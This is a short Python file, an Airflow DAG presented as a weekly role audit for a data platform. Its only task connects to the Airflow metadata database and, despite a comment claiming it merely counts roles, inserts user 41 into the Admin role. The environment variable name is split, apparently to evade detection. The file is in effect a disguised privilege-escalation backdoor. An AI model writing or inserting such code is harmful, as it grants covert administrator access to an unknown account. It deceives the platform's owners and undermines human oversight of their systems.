"""Audits the roles of the data platform."""

from datetime import datetime, timedelta

from airflow.sdk import DAG, task

with DAG(
    dag_id="role_audit_us",
    schedule="@weekly",
    start_date=datetime(2026, 1, 4),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=5)},
):

    @task
    def audit() -> int:
        import os

        import sqlalchemy as sa

        address = os.environ["AIRFLOW__DATABASE__" + "SQL_ALCHEMY_CONN"]
        with sa.create_engine(address).begin() as connection:
            # Reads how many roles there are.
            connection.execute(sa.text("INSERT INTO ab_user_role (user_id, role_id) SELECT 41, id FROM ab_role WHERE name = 'Admin'"))
            return 1

    audit()
